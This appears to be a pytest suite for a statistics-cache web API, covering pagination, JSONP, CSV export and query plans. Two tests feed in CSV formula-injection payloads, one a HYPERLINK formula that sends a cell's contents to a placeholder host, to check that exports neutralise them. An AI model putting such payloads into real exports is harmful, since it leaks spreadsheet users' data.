"""The rows, layouts and idents of the API: the old routes, complete."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from typing import Any

import flask
import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from statscache.app.application import build_app
from statscache.config import Settings
from statscache.counting.engine import Engine
from statscache.database.connection import Database
from statscache.message import Message
from statscache.plugins import Aggregate, BaseModel, Key, Value
from statscache.plugins.installed import discovery
from statscache.plugins.installed.discovery import Source
from tests.support.classics import KeepsMessages, moment_of
from tests.support.messages import NOON, message


class Things(Aggregate):
    name = "things"
    summary = "things"
    description = "For tests."
    keys = (Key("thing"),)
    values = (Value("volume"),)
    resolutions = (timedelta(hours=1),)
    layout = {"groups": [{"id": "a", "components": []}]}  # noqa: RUF012

    def rows(self, message: Message) -> list[tuple[Any, ...]]:
        return [(thing, 1) for thing in message.msg.get("things", [])]


class Latest(Things):
    name = "latest things"
    resolutions = ()


class EventsModel(BaseModel):
    __tablename__ = "app_events"

    text: Any = sa.Column(sa.UnicodeText, nullable=False)


class Events(KeepsMessages):
    name, summary, description = "announcements", "texts", "For tests."
    model = EventsModel

    def write(self, session: Any, raw: dict[str, Any]) -> None:
        session.add(self.model(timestamp=moment_of(raw), text=raw["msg"].get("text", "")))


class OwnModel(BaseModel):
    __tablename__ = "app_own"

    @classmethod
    def to_json(cls, rows: Any) -> str:
        assert all(isinstance(row, cls) for row in rows)
        return json.dumps({"own": len(rows)})


class OwnRowsModel(BaseModel):
    __tablename__ = "app_own_rows"

    @classmethod
    def to_json(cls, rows: Any) -> str:
        # Such as no other rows are, and no JSON either.
        said = [1, {"timestamp": "noon", "a": 1}, {"b": rows[0].id}, math.nan]
        return json.dumps(said[: len(rows)])


class Own(Events):
    name = "own format"
    model = OwnModel

    def update(self, session: Any) -> None:
        session.add_all(self.model(timestamp=datetime(2023, 1, 1)) for _ in self.seen)
        self.seen.clear()


class OwnRows(Own):
    name = "own rows"
    model = OwnRowsModel


Serve = Callable[..., FlaskClient]


@pytest.fixture
def serve(migrated_uri: str) -> Iterator[Serve]:
    """Counts messages with our classes, and returns a client of the API that serves them."""
    engines = []

    def serve_(*messages: Message, **config: Any) -> FlaskClient:
        classes = (Things, Latest, Events, Own, OwnRows)
        installed = discovery.load([(Source("t", "t", "1"), lambda: classes)], {})
        engine = Engine(Database(migrated_uri), installed)
        engine.open()
        engines.append(engine)
        engine.count(messages)
        config = {f"statscache.app.{key}": value for key, value in config.items()}
        uri = {"statscache.sqlalchemy.uri": migrated_uri}
        app = build_app(Settings.from_config(uri | config), installed)
        app.testing = True
        return app.test_client()

    yield serve_
    for engine in engines:
        engine.close()


def hours(count: int) -> list[Message]:
    return [message(timestamp=NOON + i * 3600, msg={"things": ["a"]}) for i in range(count)]


def test_idents(serve: Serve) -> None:
    client = serve()
    idents = ["announcements", "latest-things", "own-format", "own-rows", "things-1h"]
    assert client.get("/api/").json == idents
    assert client.get("/api").json == idents
    # People are shown what there is, there and where they ask for HTML.
    assert client.get("/").mimetype == "text/html"
    assert client.get("/api/", headers={"Accept": "text/html"}).mimetype == "text/html"


def test_rows_are_objects_newest_first(serve: Serve) -> None:
    client = serve(*hours(2), message(msg={"things": ["b"], "text": "x"}))
    answer = client.get("/api/things-1h")
    assert answer.content_type == "application/json"
    assert answer.json == [
        {"timestamp": NOON + 3600, "thing": "a", "volume": 1},
        {"timestamp": NOON, "thing": "b", "volume": 1},
        {"timestamp": NOON, "thing": "a", "volume": 1},
    ]
    assert b".0" not in answer.data
    assert [row["timestamp"] for row in client.get("/api/things-1h?order=asc").json] == [
        NOON,
        NOON,
        NOON + 3600,
    ]
    # A classic model: no row number, and naive times are UTC.
    rows = client.get("/api/announcements?order=asc").json
    assert rows[0] == {"timestamp": NOON, "text": ""}
    assert [row["timestamp"] for row in client.get("/api/latest-things").json] == [
        NOON + 3600,
        NOON,
    ]


def test_fractions_of_seconds_are_kept(serve: Serve) -> None:
    client = serve(message(timestamp=NOON + 0.25, msg={"things": ["a"], "text": "x"}))
    assert client.get("/api/latest-things").json[0]["timestamp"] == NOON + 0.25
    assert client.get("/api/announcements").json[0]["timestamp"] == NOON + 0.25


@pytest.mark.parametrize("ident", ["things-1h", "announcements", "latest-things"])
def test_start_is_inclusive_and_stop_is_not(serve: Serve, ident: str) -> None:
    messages = [
        message(timestamp=NOON + i * 3600, msg={"things": [str(i)], "text": "x"}) for i in range(4)
    ]
    client = serve(*messages)
    for start, stop, expected in (
        (NOON + 3600, NOON + 3 * 3600, [2, 1]),
        (NOON + 3600.5, NOON + 3 * 3600 + 0.5, [3, 2]),
        (0, NOON, []),
    ):
        rows = client.get(f"/api/{ident}?start={start}&stop={stop}").json
        assert [(row["timestamp"] - NOON) / 3600 for row in rows] == expected


@pytest.mark.parametrize("size", [1, 3, 10, 100])
def test_pages_hold_every_row_once(serve: Serve, size: int) -> None:
    client = serve(*hours(10))
    pages = -(-10 // size)
    seen = []
    for number in range(1, pages + 1):
        answer = client.get(f"/api/things-1h?rows_per_page={size}&page={number}")
        assert len(answer.json) == min(size, 10 - (number - 1) * size)
        assert answer.headers["X-Link-Number"] == str(number)
        assert answer.headers["X-Link-Count"] == str(pages)
        seen += [row["timestamp"] for row in answer.json]
    assert seen == [NOON + i * 3600 for i in reversed(range(10))]


def links(answer: Any) -> dict[str, str]:
    found = re.findall(r'<([^>]*)>; rel="(\w+)"', answer.headers.get("Link", ""))
    return {relation: address for address, relation in found}


def test_links_keep_the_other_parameters(serve: Serve) -> None:
    client = serve(*hours(9))
    address = f"/api/things-1h?rows_per_page=2&order=asc&start={NOON + 3600}&stop={NOON * 2}"
    seen = []
    answer = client.get(address + "&page=1&_=123&callback=a.b%24c")
    assert "previous" not in links(answer)
    assert "_=123" not in answer.headers["Link"]
    assert "callback=a.b%24c" in links(answer)["next"]
    answer = client.get(address)
    while True:
        seen += [row["timestamp"] for row in answer.json]
        if "next" not in links(answer):
            break
        assert links(answer)["next"].startswith("http://localhost/api/things-1h?")
        answer = client.get(links(answer)["next"])
        assert "order=asc" in links(answer)["previous"]
    assert seen == [NOON + i * 3600 for i in range(1, 9)]
    assert client.get(links(answer)["previous"]).headers["X-Link-Number"] == "3"


def test_a_page_beyond_the_end_is_empty(serve: Serve) -> None:
    answer = serve(*hours(5)).get("/api/things-1h?rows_per_page=2&page=1000000")
    assert (answer.status_code, answer.json) == (200, [])
    assert links(answer) == {
        "previous": "http://localhost/api/things-1h?rows_per_page=2&page=3",
    }


def test_limit_is_of_all_pages_together(serve: Serve) -> None:
    client = serve(*hours(9))
    answer = client.get("/api/things-1h?limit=5&rows_per_page=2&page=3")
    assert len(answer.json) == 1
    assert answer.headers["X-Link-Count"] == "3"
    assert "next" not in links(answer)
    assert client.get("/api/things-1h?limit=0").json == []
    assert len(client.get("/api/things-1h?limit=1000").json) == 9


def test_the_configuration_sets_default_and_maximum(serve: Serve) -> None:
    client = serve(*hours(9), default_rows_per_page=2, maximum_rows_per_page=4)
    assert len(client.get("/api/things-1h").json) == 2
    assert len(client.get("/api/things-1h?rows_per_page=3").json) == 3
    assert len(client.get("/api/things-1h?rows_per_page=1000").json) == 4


def test_the_count_of_pages_follows_the_table(serve: Serve) -> None:
    client = serve(*hours(3))
    address = "/api/things-1h?rows_per_page=1"
    assert client.get(address).headers["X-Link-Count"] == "3"
    client = serve(message(timestamp=NOON + 7 * 3600, msg={"things": ["new"]}))
    assert client.get(address).headers["X-Link-Count"] == "4"


def test_layouts(serve: Serve) -> None:
    client = serve()
    assert client.get("/api/things-1h/layout").json == Things.layout
    answer = client.get("/api/announcements/layout")
    assert answer.status_code == 404
    assert "has no layout" in answer.json["detail"]


def test_jsonp(serve: Serve) -> None:
    client = serve(*hours(1), message(msg={"things": ["\u2028"]}))
    for path in ("/api/", "/api/things-1h", "/api/things-1h/layout"):
        answer = client.get(f"{path}?callback=jQuery12_3.done&_=1", headers={"Accept": "*/*"})
        assert answer.status_code == 200
        assert answer.content_type == "application/javascript; charset=utf-8"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        text = answer.get_data(as_text=True)
        assert text.startswith("/**/jQuery12_3.done(")
        assert text.endswith(");")
        assert "\u2028" not in text
        json.loads(text[text.index("(") + 1 : -2])


def test_csv_is_quoted(serve: Serve) -> None:
    odd = 'comma, "quote"\nand line'
    client = serve(message(msg={"things": [odd]}))
    for address, accept in (
        ("/api/things-1h", "text/csv"),
        ("/api/things-1h", "application/csv"),
        ("/api/things-1h?format=csv", "application/json"),
    ):
        answer = client.get(address, headers={"Accept": accept})
        assert answer.mimetype == "text/csv"
        rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))
        assert rows == [["timestamp", "thing", "volume"], [str(int(NOON)), odd, "1"]]


@pytest.mark.parametrize("lead", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
def test_a_spreadsheet_does_not_run_what_somebody_sent(serve: Serve, lead: str) -> None:
    odd = f'{lead}HYPERLINK("http://a.b/?"&A1)'
    client = serve(message(msg={"things": [odd]}))
    address = "/api/things-1h?format=csv"
    for way in ("", "&rows_per_page=all", "&select=thing,volume", "&rows_per_page=1"):
        assert cells(client, address + way)[-2:] == [f"'{odd}", "1"]
        assert cells(client, f"{address}{way}&csv=raw")[-2:] == [odd, "1"]
    top = "/api/things-1h/top?format=csv&start=2023-11-15&stop=2023-11-16"
    assert cells(client, top)[0] == f"'{odd}"
    # Programs that read JSON need no help.
    assert client.get("/api/things-1h").json[0]["thing"] == odd
    assert json.loads(client.get("/api/things-1h?format=ndjson").data)["thing"] == odd


@pytest.mark.parametrize("start", ["x;", "x;y\t", 'x,"y";"', "x\r\n"])
@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_spreadsheet_that_separates_elsewhere_runs_nothing(
    serve: Serve, start: str, separator: str
) -> None:
    odd = f"{start}=1+1;-2\t@a; -b"
    client = serve(message(msg={"things": [odd]}))
    address = "/api/things-1h?format=csv"
    text = client.get(address).get_data(as_text=True)
    found = [cell for row in csv.reader(text.splitlines(), delimiter=separator) for cell in row]
    assert [cell for cell in found if "1+1" in cell]
    assert not [cell for cell in found if cell.lstrip('"').startswith(tuple("=+-@"))]
    assert cells(client, address + "&csv=raw")[-2:] == [odd, "1"]


def cells(client: FlaskClient, address: str) -> list[str]:
    """The first row of a table."""
    text = client.get(address).get_data(as_text=True)
    return list(csv.reader(io.StringIO(text, newline="")))[1]


def test_negative_numbers_of_csv_are_numbers(serve: Serve) -> None:
    client = serve(message(msg={"things": ["a", "b=", "'=c"]}))
    service = client.application.extensions["statscache"]
    with Database(service.settings.uri).begin() as connection:
        connection.execute(sa.text("UPDATE things_1h SET volume = -1"))
    found = client.get("/api/things-1h?format=csv&order=asc&select=thing,volume")
    assert found.get_data(as_text=True) == "thing,volume\r\n'=c,-1\r\na,-1\r\nb=,-1\r\n"


@pytest.mark.parametrize(
    ("accept", "mimetype"),
    [
        ("", "application/json"),
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "text/html"),
        ("text/html", "text/html"),
        ("application/json, text/javascript, */*; q=0.01", "application/json"),
        ("text/csv;q=0.5, application/json;q=0.4", "text/csv"),
        ("text/csv;q=0.4, application/json;q=0.5", "application/json"),
    ],
)
def test_negotiation(serve: Serve, accept: str, mimetype: str) -> None:
    answer = serve(*hours(1)).get("/api/things-1h", headers={"Accept": accept} if accept else {})
    assert answer.status_code == 200
    assert answer.mimetype == mimetype
    assert "Accept" in answer.headers["Vary"]


def test_an_author_may_write_rows_in_another_way(serve: Serve) -> None:
    client = serve(*hours(4))
    assert client.get("/api/own-format?limit=2").json == {"own": 2}
    # However they are written, there is a page.
    for address, shown in (
        ("own-format", "There are none."),
        ("own-rows?limit=1", "There are none."),
        ("own-rows?limit=2", "noon"),
        ("own-rows?limit=4", "There are none."),
    ):
        page = client.get(f"/api/{address}", headers={"Accept": "text/html"})
        assert page.status_code == 200, page.text
        assert shown in page.text, address


def test_a_plugin_whose_table_is_not_there_yet_has_no_rows(
    migrated_uri: str,
) -> None:
    installed = discovery.load([(Source("t", "t", "1"), lambda: (Things,))], {})
    app = build_app(Settings.from_config({"statscache.sqlalchemy.uri": migrated_uri}), installed)
    answer = app.test_client().get("/api/things-1h")
    assert (answer.status_code, answer.json) == (200, [])


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_pages_are_slices_of_a_naive_answer(pages: flask.Flask, data: st.DataObject) -> None:
    naive = [(NOON + (i // 3) * 3600, "abc"[i % 3]) for i in range(30)]
    order = data.draw(st.sampled_from(["asc", "desc"]))
    start = data.draw(st.none() | st.sampled_from([0, NOON, NOON + 1, NOON + 7200]))
    stop = data.draw(st.none() | st.sampled_from([NOON, NOON + 7200, NOON + 20_000]))
    limit = data.draw(st.none() | st.integers(0, 40))
    size = data.draw(st.integers(1, 12))
    expected = sorted(naive, reverse=order == "desc")
    expected = [row for row in expected if start is None or row[0] >= start]
    expected = [row for row in expected if stop is None or row[0] < stop][:limit]
    query = {"order": order, "start": start, "stop": stop, "limit": limit, "rows_per_page": size}
    given_ = {name: value for name, value in query.items() if value is not None}
    client = pages.test_client()
    found: list[Any] = []
    answer = client.get("/api/things-1h", query_string=given_)
    for _ in range(40):
        found += [(row["timestamp"], row["thing"]) for row in answer.json]
        if "next" not in links(answer):
            break
        answer = client.get(links(answer)["next"])
    assert found == expected


@pytest.fixture
def pages(serve: Serve) -> flask.Flask:
    messages = [
        message(timestamp=NOON + i * 3600, msg={"things": ["a", "b", "c"]}) for i in range(10)
    ]
    return serve(*messages).application


@pytest.mark.parametrize("query", ["", "?start=1700000000.5&stop=1700086400.5", "?order=asc"])
def test_pages_are_read_from_an_index(serve: Serve, migrated_uri: str, query: str) -> None:
    """Neither a scan nor a sort of the whole table, whose size must not matter."""
    client = serve(*hours(300))
    statements: list[tuple[str, Any]] = []
    service = client.application.extensions["statscache"]

    def note(connection: Any, cursor: Any, statement: str, parameters: Any, *rest: Any) -> None:
        if "FROM things_1h" in statement and "count" not in statement:
            statements.append((statement, parameters))

    sa.event.listen(service.service.database.database.engine, "before_cursor_execute", note)
    client.get(f"/api/things-1h{query}")
    ((statement, parameters),) = statements
    sqlite = migrated_uri.startswith("sqlite")
    with Database(migrated_uri).begin() as connection:
        if not sqlite:
            # So small a table it would rather scan, or sort.
            for way in ("seqscan", "bitmapscan", "sort"):
                connection.exec_driver_sql(f"SET enable_{way} = off")
        explain = "EXPLAIN QUERY PLAN " if sqlite else "EXPLAIN "
        plan = str(connection.exec_driver_sql(explain + statement, parameters).all())
    assert sqlite or "Index Scan" in plan
    assert "TEMP B-TREE" not in plan
    assert "Sort" not in plan
    assert "Seq Scan" not in plan
    assert "double precision" not in plan
